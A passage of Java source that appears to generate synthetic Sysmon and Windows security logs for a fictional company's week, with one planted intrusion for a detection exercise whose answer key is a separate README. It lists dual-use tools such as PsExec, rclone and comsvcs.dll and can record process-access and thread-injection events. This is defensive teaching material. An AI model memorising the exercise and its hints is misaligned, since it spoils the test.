import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.time.DayOfWeek;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Comparator;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;

/**
 * Makes the demonstration's events: a week in a fictional company's network, and one intrusion in it.
 * The same bytes come out of every run on one JDK. {@code README.md} beside this file is the answer key.
 */
public final class MakeEvents {
    public static void main(String[] arguments) throws IOException {
        if (arguments.length != 1) {
            System.err.println("usage: java scripts/demo/MakeEvents.java OUT.jsonl.gz");
            System.exit(3);
        }
        Recorder recorder = new Recorder();
        Estate estate = Estate.northmere(recorder);
        new Background(estate, recorder).record();
        new OfficeWork(estate, recorder).record();
        new ServerWork(estate, recorder).record();
        new Administration(estate, recorder).record();
        new LookAlikes(estate, recorder).record();
        new Intrusion(estate, recorder).record();
        recorder.writeTo(Path.of(arguments[0]));
    }
}

/** The recorded week: midnight of 13 November 2026 (a Friday) to midnight of 20 November, UTC. */
final class Week {
    static final LocalDate FIRST = LocalDate.of(2026, 11, 13);

    private Week() {}

    static List<LocalDate> days() {
        return FIRST.datesUntil(FIRST.plusDays(7)).toList();
    }

    static List<LocalDate> workingDays() {
        return days().stream()
                .filter(day -> day.getDayOfWeek().compareTo(DayOfWeek.SATURDAY) < 0)
                .toList();
    }

    static Instant at(LocalDate day, int hour, int minute) {
        return day.atTime(hour, minute).toInstant(ZoneOffset.UTC);
    }

    /** A moment of November 2026, such as {@code 17T08:42:30.118}. */
    static Instant november(String dayAndTime) {
        return Instant.parse("2026-11-" + dayAndTime + "Z");
    }
}

/** All chance comes from here. Each part of the story has dice of its own, so that changing one leaves the others. */
final class Dice {
    private static final long SEED = 20261120L;

    private final Random random;

    Dice(String purpose) {
        this.random = new Random(SEED * 31 + purpose.hashCode());
    }

    int between(int low, int high) {
        return low + random.nextInt(high - low + 1);
    }

    boolean chance(int percent) {
        return random.nextInt(100) < percent;
    }

    <T> T pick(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    String hex(int digits) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < digits; i++) {
            text.append(Character.forDigit(random.nextInt(16), 16));
        }
        return text.toString();
    }

    Instant during(LocalDate day, int fromHour, int toHour) {
        return Week.at(day, fromHour, 0).plusMillis(random.nextInt((toHour - fromHour) * 3_600_000));
    }

    Instant after(Instant moment, int leastMillis, int mostMillis) {
        return moment.plusMillis(between(leastMillis, mostMillis));
    }

    /** Puts values into the placeholders of a command line, path or key. */
    String fill(String template, Account account) {
        return template.replace("{home}", account.home())
                .replace("{sid}", account.sid())
                .replace("{user}", account.shortName())
                .replace("{n}", String.valueOf(between(1000, 9999)))
                .replace("{hex}", hex(8))
                .replace("{topic}", pick(List.of("Budget", "Quote", "Roadmap", "Minutes", "Calibration", "Stock")));
    }
}

/** Who runs a process. */
record Account(String domain, String shortName, String sid, String logonId, String integrity) {
    static final Account SYSTEM = new Account("NT AUTHORITY", "SYSTEM", "S-1-5-18", "0x3e7", "System");
    static final Account NETWORK_SERVICE =
            new Account("NT AUTHORITY", "NETWORK SERVICE", "S-1-5-20", "0x3e4", "System");

    static final String DOMAIN_SID = "S-1-5-21-2817450913-1540286617-3391847502-";

    static Account person(String shortName, int relativeId) {
        return domain(shortName, relativeId, "Medium");
    }

    static Account administrator(String shortName, int relativeId) {
        return domain(shortName, relativeId, "High");
    }

    private static Account domain(String shortName, int relativeId, String integrity) {
        String logonId = "0x" + Integer.toHexString(0x40000 + relativeId * 7919);
        return new Account("NORTHMERE", shortName, DOMAIN_SID + relativeId, logonId, integrity);
    }

    Account elevated() {
        return new Account(domain, shortName, sid, logonId, "High");
    }

    boolean isBuiltIn() {
        return domain.equals("NT AUTHORITY");
    }

    String name() {
        return domain + "\\" + shortName;
    }

    String home() {
        return isBuiltIn() ? "C:\\Windows\\system32" : "C:\\Users\\" + shortName;
    }
}

/** A computer of the estate. Process creation (4688) is audited on servers only. */
record Host(String name, String address, boolean server, Account owner) {
    String fullName() {
        return name + ".corp.northmere.example";
    }

    String guidPrefix() {
        return String.format("%08x", (name + "harrier").hashCode());
    }
}

/** An executable or library, with its version resource and its hashes. */
record Program(
        String path,
        String originalName,
        String description,
        String company,
        String product,
        String version,
        String md5,
        String sha256) {
    static Program of(String path, String originalName, String description, Vendor vendor) {
        String seed = fileName(path).toLowerCase(Locale.ROOT) + " " + vendor;
        return new Program(
                path,
                originalName,
                description,
                vendor.company(),
                vendor.product(),
                vendor.version(),
                Digest.of("MD5", seed),
                Digest.of("SHA-256", seed));
    }

    /** The same file in another place, or written another way. */
    Program at(String otherPath) {
        return new Program(otherPath, originalName, description, company, product, version, md5, sha256);
    }

    Program hashed(String newMd5, String newSha256) {
        return new Program(path, originalName, description, company, product, version, newMd5, newSha256);
    }

    String fileName() {
        return fileName(path);
    }

    String hashes() {
        return ("MD5=" + md5 + ",SHA256=" + sha256).toUpperCase(Locale.ROOT);
    }

    private static String fileName(String path) {
        return path.substring(path.lastIndexOf('\\') + 1);
    }
}

/** Who made a program, as its version resource says. */
record Vendor(String company, String product, String version) {
    static final Vendor WINDOWS = new Vendor(
            "Microsoft Corporation", "Microsoft® Windows® Operating System", "10.0.19041.3636 (WinBuild.160101.0800)");
    static final Vendor OFFICE = new Vendor("Microsoft Corporation", "Microsoft Office", "16.0.18025.20160");
    static final Vendor UNKNOWN = new Vendor("-", "-", "-");
}

final class Digest {
    private Digest() {}

    static String of(String algorithm, String text) {
        try {
            byte[] digest = MessageDigest.getInstance(algorithm).digest(text.getBytes(StandardCharsets.UTF_8));
            return HexFormat.of().formatHex(digest);
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }
}

/** A running process. */
record Run(Host host, Account account, Program program, String commandLine, int id, String guid) {
    String image() {
        return program.path();
    }
}

/** The programs of the estate, by file name. */
final class Programs {
    private static final String WINDOWS = """
        cmd.exe|C:\\Windows\\System32\\cmd.exe|Cmd.Exe|Windows Command Processor
        ssh.exe|C:\\Windows\\System32\\OpenSSH\\ssh.exe|ssh.exe|OpenSSH
        conhost.exe|C:\\Windows\\System32\\conhost.exe|CONHOST.EXE|Console Window Host
        powershell.exe|C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe|PowerShell.EXE|Windows PowerShell
        mshta.exe|C:\\Windows\\System32\\mshta.exe|MSHTA.EXE|Microsoft (R) HTML Application host
        rundll32.exe|C:\\Windows\\System32\\rundll32.exe|RUNDLL32.EXE|Windows host process (Rundll32)
        schtasks.exe|C:\\Windows\\System32\\schtasks.exe|schtasks.exe|Task Scheduler Configuration Tool
        reg.exe|C:\\Windows\\System32\\reg.exe|reg.exe|Registry Console Tool
        sc.exe|C:\\Windows\\System32\\sc.exe|sc.exe|Service Control Manager Configuration Tool
        net.exe|C:\\Windows\\System32\\net.exe|net.exe|Net Command
        net1.exe|C:\\Windows\\System32\\net1.exe|net1.exe|Net Command
        nltest.exe|C:\\Windows\\System32\\nltest.exe|nltestrk.exe|Microsoft® Logon Server Test Utility
        whoami.exe|C:\\Windows\\System32\\whoami.exe|whoami.exe|whoami - displays logged on user information
        ipconfig.exe|C:\\Windows\\System32\\ipconfig.exe|ipconfig.exe|IP Configuration Utility
        gpresult.exe|C:\\Windows\\System32\\gpresult.exe|gprslt.exe|Query Group Policy RSOP Data
        gpupdate.exe|C:\\Windows\\System32\\gpupdate.exe|GPUpdate.exe|Microsoft® Group Policy Update Utility
        nslookup.exe|C:\\Windows\\System32\\nslookup.exe|nslookup.exe|nslookup
        robocopy.exe|C:\\Windows\\System32\\Robocopy.exe|robocopy.exe|Microsoft Robocopy
        vssadmin.exe|C:\\Windows\\System32\\vssadmin.exe|VSSADMIN.EXE|Command Line Interface for Microsoft® Volume Shadow Copy Service
        dllhost.exe|C:\\Windows\\System32\\dllhost.exe|dllhost.exe|COM Surrogate
        svchost.exe|C:\\Windows\\System32\\svchost.exe|svchost.exe|Host Process for Windows Services
        services.exe|C:\\Windows\\System32\\services.exe|services.exe|Services and Controller app
        lsass.exe|C:\\Windows\\system32\\lsass.exe|lsass.exe|Local Security Authority Process
        csrss.exe|C:\\Windows\\system32\\csrss.exe|CSRSS.Exe|Client Server Runtime Process
        wininit.exe|C:\\Windows\\system32\\wininit.exe|WinInit.exe|Windows Start-Up Application
        winlogon.exe|C:\\Windows\\System32\\winlogon.exe|WINLOGON.EXE|Windows Logon Application
        explorer.exe|C:\\Windows\\explorer.exe|EXPLORER.EXE|Windows Explorer
        taskhostw.exe|C:\\Windows\\System32\\taskhostw.exe|taskhostw.exe|Host Process for Windows Tasks
        RuntimeBroker.exe|C:\\Windows\\System32\\RuntimeBroker.exe|RuntimeBroker.exe|Runtime Broker
        backgroundTaskHost.exe|C:\\Windows\\System32\\backgroundTaskHost.exe|backgroundTaskHost.exe|Background Task Host
        SearchIndexer.exe|C:\\Windows\\System32\\SearchIndexer.exe|SearchIndexer.exe|Microsoft Windows Search Indexer
        SearchProtocolHost.exe|C:\\Windows\\System32\\SearchProtocolHost.exe|SearchProtocolHost.exe|Microsoft Windows Search Protocol Host
        WmiPrvSE.exe|C:\\Windows\\System32\\wbem\\WmiPrvSE.exe|Wmiprvse.exe|WMI Provider Host
        CompatTelRunner.exe|C:\\Windows\\System32\\CompatTelRunner.exe|CompatTelRunner.exe|Microsoft Compatibility Telemetry
        msiexec.exe|C:\\Windows\\System32\\msiexec.exe|msiexec.exe|Windows® installer
        splwow64.exe|C:\\Windows\\splwow64.exe|splwow64.exe|Print driver host for applications
        notepad.exe|C:\\Windows\\System32\\notepad.exe|NOTEPAD.EXE|Notepad
        MsMpEng.exe|C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe|MsMpEng.exe|Antimalware Service Executable
        MpCmdRun.exe|C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpCmdRun.exe|MpCmdRun.exe|Microsoft Malware Protection Command Line Utility
        w3wp.exe|C:\\Windows\\System32\\inetsrv\\w3wp.exe|w3wp.exe|IIS Worker Process
        csc.exe|C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe|csc.exe|Visual C# Command Line Compiler
        cvtres.exe|C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe|CVTRES.EXE|Microsoft® Resource File To COFF Object Conversion Utility
        CcmExec.exe|C:\\Windows\\CCM\\CcmExec.exe|CcmExec.exe|Host Process for Microsoft Configuration Manager
        ntdll.dll|C:\\Windows\\System32\\ntdll.dll|ntdll.dll|NT Layer DLL
        amsi.dll|C:\\Windows\\System32\\amsi.dll|amsi.dll|Anti-Malware Scan Interface
        winhttp.dll|C:\\Windows\\System32\\winhttp.dll|winhttp.dll|Windows HTTP Services
        dbghelp.dll|C:\\Windows\\System32\\dbghelp.dll|DBGHELP.DLL|Windows Image Helper
        dbgcore.dll|C:\\Windows\\System32\\dbgcore.dll|DBGCORE.DLL|Windows Core Debugging Helpers
        comsvcs.dll|C:\\Windows\\System32\\comsvcs.dll|COMSVCS.DLL|COM+ Services
        vbscript.dll|C:\\Windows\\System32\\vbscript.dll|vbscript.dll|Microsoft ® VBScript
        mscoree.dll|C:\\Windows\\System32\\mscoree.dll|mscoree.dll|Microsoft .NET Runtime Execution Engine
        taskschd.dll|C:\\Windows\\System32\\taskschd.dll|taskschd.dll|Task Scheduler COM API
        """;

    private static final String OFFICE = """
        OUTLOOK.EXE|C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE|Outlook.exe|Microsoft Outlook
        WINWORD.EXE|C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE|WinWord.exe|Microsoft Word
        EXCEL.EXE|C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE|Excel.exe|Microsoft Excel
        sdxhelper.exe|C:\\Program Files\\Microsoft Office\\root\\Office16\\SDXHelper.exe|SDXHELPER.EXE|Microsoft Office SDX Helper
        """;

    private static final String OTHERS = """
        chrome.exe|C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe|chrome.exe|Google Chrome|Google LLC|Google Chrome|130.0.6723.117
        GoogleUpdate.exe|C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe|GoogleUpdate.exe|Google Installer|Google LLC|Google Update|1.3.36.372
        msedge.exe|C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe|msedge.exe|Microsoft Edge|Microsoft Corporation|Microsoft Edge|130.0.2849.80
        MicrosoftEdgeUpdate.exe|C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe|msedgeupdate.dll|Microsoft Edge Update|Microsoft Corporation|Microsoft Edge Update|1.3.195.25
        ms-teams.exe|C:\\Program Files\\WindowsApps\\MSTeams_24277.3507.3205.5228_x64__8wekyb3d8bbwe\\ms-teams.exe|msteams.exe|Microsoft Teams|Microsoft Corporation|Microsoft Teams|24277.3507.3205.5228
        OneDrive.exe|C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe|OneDrive.exe|Microsoft OneDrive|Microsoft Corporation|Microsoft OneDrive|24.201.1006.5
        OneDriveStandaloneUpdater.exe|C:\\Program Files\\Microsoft OneDrive\\OneDriveStandaloneUpdater.exe|OneDriveStandaloneUpdater.exe|Standalone Updater|Microsoft Corporation|Microsoft OneDrive|24.201.1006.5
        AcroRd32.exe|C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe|Acrobat.exe|Adobe Acrobat|Adobe Systems Incorporated|Adobe Acrobat|24.4.20220.0
        AgentExecutor.exe|C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe|AgentExecutor.exe|AgentExecutor|Microsoft Corporation|Microsoft Intune Management Extension|1.84.112.0
        IntuneManagementExtension.exe|C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Microsoft.Management.Services.IntuneWindowsAgent.exe|Microsoft.Management.Services.IntuneWindowsAgent.exe|IntuneWindowsAgent|Microsoft Corporation|Microsoft Intune Management Extension|1.84.112.0
        PsExec64.exe|C:\\Tools\\Sysinternals\\PsExec64.exe|psexec.c|Execute processes remotely|Sysinternals - www.sysinternals.com|Sysinternals PsExec|2.43
        PSEXESVC.exe|C:\\Windows\\PSEXESVC.exe|psexesvc.exe|PsExec Service|Sysinternals - www.sysinternals.com|Sysinternals PsExec|2.43
        rclone.exe|C:\\Program Files\\rclone\\rclone.exe|rclone.exe|Rclone|https://rclone.org|Rclone|1.68.2
        HoldfastAgent.exe|C:\\Program Files\\Holdfast Backup\\HoldfastAgent.exe|HoldfastAgent.exe|Holdfast Backup Agent|Holdfast Software|Holdfast Backup|7.2.118.0
        quill.exe|C:\\Program Files\\Quill Notes\\quill.exe|quill.exe|Quill Notes|Quill Notes AB|Quill Notes|5.4.2
        IQSUpdate.exe|C:\\Program Files (x86)\\IQ Sensors\\IQSUpdate.exe|IQSUpdate.exe|IQ Sensors Updater|IQ Sensors GmbH|IQ Sensors Suite|3.1.7.0
        faqsvc.exe|C:\\Program Files\\Helpline\\faqsvc.exe|faqsvc.exe|Helpline Knowledge Service|Helpline Ltd|Helpline|11.0.2
        cowsync.exe|C:\\Program Files\\CoW Sync\\cowsync.exe|cowsync.exe|CoW Sync|Copy on Write Oy|CoW Sync|2.8.0
        """;

    private static final Map<String, Program> BY_NAME = read();

    private Programs() {}

    static Program named(String fileName) {
        Program program = BY_NAME.get(fileName.toLowerCase(Locale.ROOT));
        if (program == null) {
            throw new IllegalArgumentException("no program " + fileName);
        }
        return program;
    }

    private static Map<String, Program> read() {
        Map<String, Program> programs = new LinkedHashMap<>();
        WINDOWS.lines().map(Programs::cells).forEach(row -> add(programs, row, Vendor.WINDOWS));
        OFFICE.lines().map(Programs::cells).forEach(row -> add(programs, row, Vendor.OFFICE));
        OTHERS.lines().map(Programs::cells).forEach(row -> add(programs, row, new Vendor(row[4], row[5], row[6])));
        return programs;
    }

    private static String[] cells(String line) {
        return line.split("\\|");
    }

    private static void add(Map<String, Program> programs, String[] row, Vendor vendor) {
        programs.put(row[0].toLowerCase(Locale.ROOT), Program.of(row[1], row[2], row[3], vendor));
    }
}

/** The company's computers and people, and the processes that have been running since before the week began. */
final class Estate {
    private static final List<String> NAMES = Words.of("""
        aodell bferrant cwhitlow rhollis dmarsh ekowalik fserrano gtanaka tokafor hbrandt ilindholm jpell kvasquez
        mlindqvist lnovak mpetrov nquayle oreyes pstrand qtruong rulrich svance twexler uyamada vzeller
        """);

    /** Role, program and command line of what runs on every computer. */
    private static final String RESIDENTS = """
        wininit|wininit.exe|wininit.exe
        csrss|csrss.exe|csrss.exe
        services|services.exe|services.exe
        lsass|lsass.exe|lsass.exe
        winlogon|winlogon.exe|winlogon.exe
        Schedule|svchost.exe|C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule
        Winmgmt|svchost.exe|C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Winmgmt
        Dcom|svchost.exe|C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p
        Dnscache|svchost.exe|C:\\Windows\\system32\\svchost.exe -k NetworkService -p
        Indexer|SearchIndexer.exe|C:\\Windows\\system32\\SearchIndexer.exe /Embedding
        Defender|MsMpEng.exe|"{path}"
        Ccm|CcmExec.exe|C:\\Windows\\CCM\\CcmExec.exe
        Intune|IntuneManagementExtension.exe|"{path}"
        explorer|explorer.exe|C:\\Windows\\Explorer.EXE
        """;

    private final List<Host> workstations;
    private final List<Host> servers;
    private final Map<String, Run> residents = new LinkedHashMap<>();

    private Estate(List<Host> workstations, List<Host> servers) {
        this.workstations = workstations;
        this.servers = servers;
    }

    static Estate northmere(Recorder recorder) {
        List<Host> workstations = IntStream.rangeClosed(1, NAMES.size())
                .mapToObj(Estate::workstation)
                .toList();
        List<String> names = List.of("NM-DC01", "NM-DC02", "NM-FS01", "NM-APP01", "NM-BKP01", "NM-SCCM01");
        List<Host> servers = IntStream.range(0, names.size())
                .mapToObj(i -> new Host(names.get(i), "10.20.2." + (11 + i), true, Account.SYSTEM))
                .toList();
        Estate estate = new Estate(workstations, servers);
        estate.all().forEach(host -> estate.settle(host, recorder));
        return estate;
    }

    private static Host workstation(int number) {
        Account owner = Account.person(NAMES.get(number - 1), 1100 + number);
        return new Host(String.format("NM-WS%03d", number), "10.20.14." + (20 + number), false, owner);
    }

    List<Host> workstations() {
        return workstations;
    }

    List<Host> all() {
        return Stream.concat(workstations.stream(), servers.stream()).toList();
    }

    Host host(String name) {
        return all().stream()
                .filter(host -> host.name().equals(name))
                .findFirst()
                .orElseThrow(() -> new IllegalArgumentException("no host " + name));
    }

    Run resident(Host host, String role) {
        return residents.get(host.name() + " " + role);
    }

    private void settle(Host host, Recorder recorder) {
        Program system = Program.of("System", "-", "-", Vendor.UNKNOWN);
        residents.put(
                host.name() + " System",
                new Run(host, Account.SYSTEM, system, "", 4, recorder.guid(host, Instant.EPOCH)));
        RESIDENTS.lines().map(line -> line.split("\\|")).forEach(row -> settle(host, row, recorder));
    }

    private void settle(Host host, String[] row, Recorder recorder) {
        Program program = Programs.named(row[1]);
        String commandLine = row[2].replace("{path}", program.path());
        String guid = recorder.guid(host, Week.november("11T05:12:00"));
        int id = 400 + residents.size() % 16 * 52;
        residents.put(
                host.name() + " " + row[0], new Run(host, accountOf(row[0], host), program, commandLine, id, guid));
    }

    private static Account accountOf(String role, Host host) {
        return switch (role) {
            case "explorer" -> host.owner();
            case "Dnscache" -> Account.NETWORK_SERVICE;
            default -> Account.SYSTEM;
        };
    }
}

/** One event as it will be written, with the moment that it is sorted by. */
record Event(Instant at, String line) {}

/** The fields of one event, in order, and their JSON. */
final class Fields {
    private final Map<String, Object> values = new LinkedHashMap<>();

    Fields with(String name, Object value) {
        values.put(name, value);
        return this;
    }

    String json() {
        StringBuilder text = new StringBuilder("{");
        values.forEach((name, value) -> {
            text.append(text.length() > 1 ? "," : "");
            text.append(quoted(name)).append(':').append(value instanceof Integer ? value : quoted(value.toString()));
        });
        return text.append('}').toString();
    }

    private static String quoted(String text) {
        StringBuilder quoted = new StringBuilder("\"");
        text.chars().forEach(character -> quoted.append(escaped((char) character)));
        return quoted.append('"').toString();
    }

    private static String escaped(char character) {
        return switch (character) {
            case '"' -> "\\\"";
            case '\\' -> "\\\\";
            case '\n' -> "\\n";
            case '\r' -> "\\r";
            case '\t' -> "\\t";
            default -> character < ' ' ? String.format("\\u%04x", (int) character) : String.valueOf(character);
        };
    }
}

/** Writes down what happens, in the field names of the recordings by Sysmon and the Windows event logs. */
final class Recorder {
    private static final DateTimeFormatter SYSMON_TIME =
            DateTimeFormatter.ofPattern("yyyy-MM-dd HH:mm:ss.SSS").withZone(ZoneOffset.UTC);
    private static final DateTimeFormatter LOG_TIME =
            DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm:ss.SSS'Z'").withZone(ZoneOffset.UTC);

    private final List<Event> events = new ArrayList<>();
    private final Dice dice = new Dice("recorder");
    private final Map<String, Integer> started = new LinkedHashMap<>();

    /** Event 1, and 4688 on a server. */
    Run start(Instant at, Run parent, Program program, String commandLine) {
        return startAs(at, parent, parent.account(), program, commandLine);
    }

    /** The same, for a program of {@link Programs}. */
    Run start(Instant at, Run parent, String program, String commandLine) {
        return start(at, parent, Programs.named(program), commandLine);
    }

    Run startAs(Instant at, Run parent, Account account, String program, String commandLine) {
        return startAs(at, parent, account, Programs.named(program), commandLine);
    }

    Run startAs(Instant at, Run parent, Account account, Program program, String commandLine) {
        return startIn(at, parent, account, program, commandLine, account.home() + "\\");
    }

    Run startIn(Instant at, Run parent, Account account, Program program, String commandLine, String currentDirectory) {
        int id = 4 * dice.between(300, 3800);
        Run run = new Run(parent.host(), account, program, commandLine, id, guid(parent.host(), at));
        add(at, started(at, run, parent, currentDirectory));
        if (run.host().server()) {
            add(at.plusMillis(1), audited(at.plusMillis(1), run, parent));
        }
        return run;
    }

    private Fields started(Instant at, Run run, Run parent, String currentDirectory) {
        Fields fields = sysmon(at, 1, run);
        version(fields, run.program());
        return fields.with("CommandLine", run.commandLine())
                .with("CurrentDirectory", currentDirectory)
                .with("User", run.account().name())
                .with("LogonId", run.account().logonId())
                .with("IntegrityLevel", run.account().integrity())
                .with("ParentProcessGuid", parent.guid())
                .with("ParentProcessId", String.valueOf(parent.id()))
                .with("ParentImage", parent.image())
                .with("ParentCommandLine", parent.commandLine());
    }

    private Fields audited(Instant at, Run run, Run parent) {
        Fields fields = security(at, 4688, run.host());
        return subject(fields, run.account(), run.host())
                .with("NewProcessId", "0x" + Integer.toHexString(run.id()))
                .with("NewProcessName", run.image())
                .with("TokenElevationType", "%%1936")
                .with("ProcessId", "0x" + Integer.toHexString(parent.id()))
                .with("CommandLine", run.commandLine())
                .with("TargetUserSid", "S-1-0-0")
                .with("TargetUserName", "-")
                .with("TargetDomainName", "-")
                .with("TargetLogonId", "0x0")
                .with("ParentProcessName", parent.image())
                .with("MandatoryLabel", "S-1-16-16384");
    }

    /** Event 5. */
    void stop(Instant at, Run run) {
        add(at, sysmon(at, 5, run).with("User", run.account().name()));
    }

    /** Event 3. */
    void connect(Instant at, Run run, String address, int port) {
        connect(at, run, address, port, "-");
    }

    void connect(Instant at, Run run, String address, int port, String destinationHostname) {
        add(
                at,
                sysmon(at, 3, run)
                        .with("User", run.account().name())
                        .with("Protocol", "tcp")
                        .with("Initiated", "true")
                        .with("SourceIsIpv6", "false")
                        .with("SourceIp", run.host().address())
                        .with("SourceHostname", run.host().fullName())
                        .with("SourcePort", String.valueOf(dice.between(49700, 65500)))
                        .with("DestinationIsIpv6", "false")
                        .with("DestinationIp", address)
                        .with("DestinationHostname", destinationHostname)
                        .with("DestinationPort", String.valueOf(port)));
    }

    /** Event 22. */
    void resolve(Instant at, Run run, String name, String address) {
        add(
                at,
                sysmon(at, 22, run)
                        .with("QueryName", name)
                        .with("QueryStatus", address.equals("-") ? "9003" : "0")
                        .with("QueryResults", address.equals("-") ? "-" : "::ffff:" + address + ";")
                        .with("User", run.account().name()));
    }

    /** Event 11. */
    void createFile(Instant at, Run run, String path) {
        add(
                at,
                sysmon(at, 11, run)
                        .with("TargetFilename", path)
                        .with("CreationUtcTime", SYSMON_TIME.format(at))
                        .with("User", run.account().name()));
    }

    /** Event 12. */
    void createKey(Instant at, Run run, String key) {
        add(
                at,
                sysmon(at, 12, run)
                        .with("EventType", "CreateKey")
                        .with("TargetObject", key)
                        .with("User", run.account().name()));
    }

    /** Event 13. */
    void setValue(Instant at, Run run, String key, String details) {
        add(
                at,
                sysmon(at, 13, run)
                        .with("EventType", "SetValue")
                        .with("TargetObject", key)
                        .with("Details", details)
                        .with("User", run.account().name()));
    }

    /** Event 7. */
    void load(Instant at, Run run, Program library) {
        Fields fields = sysmon(at, 7, run).with("ImageLoaded", library.path());
        version(fields, library);
        add(
                at,
                fields.with("Signed", "true")
                        .with("Signature", "Microsoft Windows")
                        .with("SignatureStatus", "Valid")
                        .with("User", run.account().name()));
    }

    /** Event 10. */
    void open(Instant at, Run source, Run target, String mask, String callTrace) {
        add(
                at,
                sysmonPair(at, 10, source.host())
                        .with("SourceProcessGUID", source.guid())
                        .with("SourceProcessId", String.valueOf(source.id()))
                        .with("SourceThreadId", String.valueOf(source.id() + 136))
                        .with("SourceImage", source.image())
                        .with("TargetProcessGUID", target.guid())
                        .with("TargetProcessId", String.valueOf(target.id()))
                        .with("TargetImage", target.image())
                        .with("GrantedAccess", mask)
                        .with("CallTrace", callTrace)
                        .with("SourceUser", source.account().name())
                        .with("TargetUser", target.account().name()));
    }

    /** Event 8. */
    void inject(Instant at, Run source, Run target, String startModule, String startFunction) {
        add(
                at,
                sysmonPair(at, 8, source.host())
                        .with("SourceProcessGuid", source.guid())
                        .with("SourceProcessId", String.valueOf(source.id()))
                        .with("SourceImage", source.image())
                        .with("TargetProcessGuid", target.guid())
                        .with("TargetProcessId", String.valueOf(target.id()))
                        .with("TargetImage", target.image())
                        .with("NewThreadId", String.valueOf(4 * dice.between(600, 3000)))
                        .with("StartAddress", "0x00000" + dice.hex(7).toUpperCase(Locale.ROOT) + "0000")
                        .with("StartModule", startModule)
                        .with("StartFunction", startFunction)
                        .with("SourceUser", source.account().name())
                        .with("TargetUser", target.account().name()));
    }

    /** Event 17. */
    void createPipe(Instant at, Run run, String name) {
        pipe(at, 17, "CreatePipe", run, name);
    }

    /** Event 18. */
    void connectPipe(Instant at, Run run, String name) {
        pipe(at, 18, "ConnectPipe", run, name);
    }

    private void pipe(Instant at, int eventId, String eventType, Run run, String name) {
        add(
                at,
                sysmon(at, eventId, run)
                        .with("EventType", eventType)
                        .with("PipeName", name)
                        .with("User", run.account().name()));
    }

    /** Event 4624. */
    void logOn(Instant at, Host host, Account account, int type, String protocol, String fromAddress) {
        Fields fields = logon(at, 4624, host, account, type, protocol, fromAddress);
        add(
                at,
                fields.with("TargetLogonId", account.logonId())
                        .with("LogonGuid", "{00000000-0000-0000-0000-000000000000}")
                        .with("ImpersonationLevel", "%%1833")
                        .with("ElevatedToken", "%%1842"));
    }

    /** Event 4625. */
    void failLogOn(Instant at, Host host, Account account, int type, String fromAddress) {
        Fields fields = logon(at, 4625, host, account, type, "Negotiate", fromAddress);
        add(
                at,
                fields.with("Status", "0xc000006d")
                        .with("FailureReason", "%%2313")
                        .with("SubStatus", "0xc000006a"));
    }

    private Fields logon(
            Instant at, int eventId, Host host, Account account, int type, String protocol, String fromAddress) {
        return subject(security(at, eventId, host), Account.SYSTEM, host)
                .with("TargetUserSid", account.sid())
                .with("TargetUserName", account.shortName())
                .with("TargetDomainName", account.domain())
                .with("LogonType", String.valueOf(type))
                .with("LogonProcessName", logonProcess(type, protocol))
                .with("AuthenticationPackageName", protocol)
                .with("WorkstationName", "-")
                .with("ProcessName", "-")
                .with("IpAddress", fromAddress)
                .with("IpPort", type == 3 ? String.valueOf(dice.between(49700, 65500)) : "0");
    }

    private static String logonProcess(int type, String protocol) {
        return switch (type) {
            case 3 -> protocol.equals("Kerberos") ? "Kerberos" : "NtLmSsp ";
            case 5 -> "Advapi  ";
            default -> "User32 ";
        };
    }

    /** Event 4698. */
    void registerTask(Instant at, Host host, Account account, String name, String command, String arguments) {
        add(
                at,
                subject(security(at, 4698, host), account, host)
                        .with("TaskName", name)
                        .with("TaskContent", taskContent(at, account, name, command, arguments)));
    }

    private static String taskContent(Instant at, Account account, String name, String command, String arguments) {
        return """
            <?xml version="1.0" encoding="UTF-16"?>
            <Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
              <RegistrationInfo>
                <Date>%s</Date>
                <Author>%s</Author>
                <URI>%s</URI>
              </RegistrationInfo>
              <Actions Context="Author">
                <Exec>
                  <Command>%s</Command>
                  <Arguments>%s</Arguments>
                </Exec>
              </Actions>
            </Task>\
            """.formatted(LOG_TIME.format(at), account.name(), name, command, arguments)
                .replace("\n", "\r\n");
    }

    /** Event 4720. */
    void createAccount(Instant at, Host host, Account creator, String domain, String name, String sid) {
        add(
                at,
                subject(security(at, 4720, host), creator, host)
                        .with("TargetUserName", name)
                        .with("TargetDomainName", domain)
                        .with("TargetSid", sid)
                        .with("SamAccountName", name)
                        .with("DisplayName", "%%1793")
